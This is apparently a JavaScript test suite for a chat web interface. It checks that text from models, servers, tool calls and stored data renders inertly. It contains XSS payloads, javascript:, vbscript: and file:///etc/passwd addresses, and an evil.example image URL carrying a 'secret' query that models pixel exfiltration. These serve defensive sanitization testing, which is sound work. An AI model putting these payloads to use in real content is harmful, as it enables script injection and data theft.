// Text of models, users and servers never becomes script, markup or a request.
import assert from "node:assert/strict";
import { eventually } from "./harness.mjs";

export const widths = [1280];

const HTML = ["<script>hacked=1</script>", "<img src=x onerror=hacked=1>", "<svg onload=hacked=1>", "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>", "<style>*{display:none}</style>",
  "<a href=\"javascript:hacked=1\">x</a>", "<math><mtext><img src=x onerror=hacked=1></mtext></math>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<form action=//evil.example><button>x</button></form>"];
const ADDRESSES = ["javascript:hacked=1", "JaVaScRiPt:hacked=1", "java\tscript:hacked=1", " javascript:hacked=1", "\\javascript:hacked=1", "javascript&colon;hacked=1", "&#106;avascript:hacked=1", "data:text/html,<script>hacked=1</script>",
  "vbscript:hacked=1", "file:///etc/passwd", "blob:x", "//evil.example/x", "/v1/models/unload", "?x", "javascript://example.com/%0ahacked=1", "view-source:https://example.com", "intent://x", "http:javascript:hacked=1"];

/** Nothing ran, and no element came from text. */
async function isClean(page, where) {
  const found = await page.evaluate(() => ({
    hacked: window.hacked ?? null,
    elements: document.querySelectorAll("script:not(body > script), iframe, object, embed, base, svg [onload], [onerror], [onclick], [srcdoc], #turns form, #turns img:not([src^='data:image/']), #turns style").length,
    links: [...document.querySelectorAll("a")].map(link => link.href).filter(address => !/^(https?|mailto):/.test(address)),
  }));
  assert.deepEqual(found, { hacked: null, elements: 0, links: [] }, where);
}

export const tests = {
  async html_in_markdown_is_text(page, proxy) {
    const text = HTML.flatMap(html => [html, `- ${html}`, `> ${html}`, `# ${html}`, `| ${html} | b |\n|---|---|\n| ${html} | d |`, `**${html}**`, `[${html}](https://example.com)`, `\`${html}\``, `\`\`\`${html}\n${html}\n\`\`\``, `$${html}$`, `$\\text{${html}}$`]).join("\n\n");
    proxy.script([{ reasoning_content: text }, text]);
    await page.say(text.slice(0, 300));
    await page.isIdle();
    await page.click(".reasoning summary");
    await isClean(page, "answer");
    assert.ok((await page.answer()).includes("<script>hacked=1</script>"), "the source is shown");
  },

  async dangerous_addresses_are_no_links(page, proxy) {
    const text = ADDRESSES.flatMap(address => [`[a](${address})`, `[a](<${address}>)`, `<${address}>`, `![a](${address})`, `[a](${address} "t")`, `[![a](${address})](${address})`]).join("\n\n");
    proxy.script([text]);
    await page.say("Links");
    await page.isIdle();
    await isClean(page, "links");
    // "http:javascript:..." is an http address of the host "javascript".
    for (const link of await page.$$eval(".turn.assistant a", links => links.map(link => [link.href, link.target, link.rel]))) {
      assert.match(link[0], /^(http:|https:)/);
      assert.deepEqual(link.slice(1), ["_blank", "noopener noreferrer nofollow"]);
    }
  },

  async images_of_answers_are_never_loaded(page, proxy) {
    proxy.script(["![spy](https://evil.example/pixel.png?q=secret) [l](https://evil.example/) https://evil.example/x"]);
    await page.say("Image");
    await page.isIdle();
    await new Promise(done => setTimeout(done, 500));
    await isClean(page, "images");
    assert.equal(await page.count(".turn.assistant a"), 3, "an image is a link");
    assert.equal(await page.$eval("meta[http-equiv='x-dns-prefetch-control']", meta => meta.content), "off");
  },

  async names_from_the_server_are_text(page, proxy) {
    const [evil] = HTML.slice(1);
    proxy.json("GET /v1/models", { object: "list", data: [{ id: evil, loaded: true }, { id: HTML[0], loaded: false }] });
    proxy.json("GET /health", { status: "ok", model: evil, context: 100, plan: { device: evil, trunk: 1e9, experts: 1e9, residency: 0.5 } });
    proxy.json("GET /experts", { layers: ["0.9", ".1."] });
    proxy.routes["GET /metrics"] = outgoing => outgoing.end(`moestro_memory_bytes{kind="${evil}"} 5\nmoestro_memory_limit_bytes 7\n`);
    await page.evaluate(() => refreshModels(true));
    await page.until(text => document.querySelector("#reserved").textContent.includes(text), evil);
    await page.until(text => document.querySelector(".welcome h2").textContent === text, evil);
    await isClean(page, "server");
    proxy.json("POST /v1/chat/completions", { error: { message: evil } }, 400);
    await page.say("Hi");
    await page.isIdle();
    assert.equal(await page.text(".error:not(#tools-problem)"), evil);
    await isClean(page, "error");
  },

  async tool_calls_files_and_titles_are_text(page, proxy) {
    const evil = HTML[1];
    proxy.script([{ tool_calls: [{ index: 0, id: evil, type: "function", function: { name: evil, arguments: JSON.stringify({ a: evil }) } }] }], { finish: "tool_calls" });
    await page.evaluate(evil => addFiles([new File([evil], evil + ".txt"), new File(["\0"], evil)]), evil);
    await page.until(() => document.querySelector("#waiting-files").textContent.includes("onerror") && document.querySelector("#notice").textContent.includes("onerror"));
    await isClean(page, "waiting files");
    await page.say(evil);
    await page.isIdle();
    await isClean(page, "turns");
    assert.equal(await page.text(".card > b"), evil);
    if (!await page.isOpen("list")) await page.click("#show-list");
    assert.equal(await page.text(".open-chat"), evil);
    await page.press("Rename", "#titles");
    await isClean(page, "dialog");
    await page.keyboard.press("Escape");
    await page.press("Delete", "#titles");
    await page.until(() => document.querySelector("#notice").textContent.includes("onerror"));
    await isClean(page, "deleted");
  },

  async kept_data_cannot_inject(page, proxy) {
    await page.evaluate(async html => {
      await inDatabase("readwrite", (titles, nodes) => {
        titles.put({ id: "x", title: html, updated: 1e15 });
        const messages = [{ role: "user", content: html, images: [{ name: html, url: "https://evil.example/x.png" }, { name: html, url: "javascript:hacked=1" }], files: [{ name: html, text: html }] }, { role: "assistant", content: html, note: html, error: html }];
        for (const node of chainOf(messages)) nodes.put({ ...node, conversation: "x" });
        return null;
      });
      await readTitles();
      await openConversation("x");
    }, HTML[1]);
    await page.until(() => document.querySelectorAll(".turn").length === 2);
    await page.evaluate(() => { for (const image of document.querySelectorAll("#turns img:not([src])")) image.remove(); });
    await isClean(page, "kept");
  },

  async policy_blocks_injected_scripts(page) {
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.hacked = 1";
      document.body.append(script);
      const link = document.createElement("a");
      link.href = "javascript:window.hacked=1";
      link.click();
      script.remove();
    });
    // Puppeteer does not hear what Firefox reports.
    await eventually(() => page.isFirefox || page.seen.errors.filter(error => /Content Security Policy/.test(error)).length > 1, "the browser reports both violations");
    await isClean(page, "policy");
    page.seen.errors.length = 0;
  },

  async hostile_text_renders_in_linear_time(page) {
    const size = 50000, cases = {
      brackets: "[".repeat(size), images: "![".repeat(size / 2), pairs: "[](".repeat(size / 3), stars: "*a ".repeat(size / 3), opened: "*a **b ".repeat(size / 7), long: "*".repeat(size), quotes: ">".repeat(size), lists: "- ".repeat(size / 2),
      ticks: Array.from({ length: 300 }, (_, index) => "`".repeat(index + 1)).join(" "), dollars: "$a ".repeat(size / 3), parens: "\\(".repeat(size / 2), braces: `$${"{".repeat(size)}$`, roots: `$${"\\sqrt".repeat(size / 5)}$`, powers: `$${"x^".repeat(size / 2)}$`, heading: "#" + " ".repeat(size) + "x",
      digits: "1".repeat(size), spaces: " ".repeat(size) + "x", tables: "|".repeat(size) + "\n" + "|-".repeat(size / 2), fence: "```" + " ".repeat(size) + "`", entities: "&".repeat(size), angles: "<".repeat(size), addresses: "https://".repeat(size / 8), nested: Array.from({ length: 300 }, (_, index) => " ".repeat(index * 2) + "- a").join("\n"),
    };
    const millisecondsOf = text => page.evaluate(text => {
      const box = make("div"), start = performance.now();
      $("turns").replaceChildren(box);
      const view = new MarkdownView(box);
      view.show(text, false);
      view.show(text, true);
      box.getBoundingClientRect();
      return performance.now() - start;
    }, text);
    const paragraph = "*One* **two** `three` [four](https://example.com)\n\n", common = paragraph.repeat(size / paragraph.length);
    for (const [name, text] of Object.entries(cases)) {
      // Common text of this length shows how busy the machine is. One of ten tries must meet no other programs.
      const tries = [];
      let isLinear = false;
      while (!isLinear && tries.length < 10) {
        const limit = Math.max(4000, 20 * await millisecondsOf(common)), milliseconds = await millisecondsOf(text);
        tries.push(`${Math.round(milliseconds)} ms of ${Math.round(limit)}`);
        isLinear = milliseconds < limit;
      }
      assert.ok(isLinear, `${name}: ${tries}`);
    }
  },
};
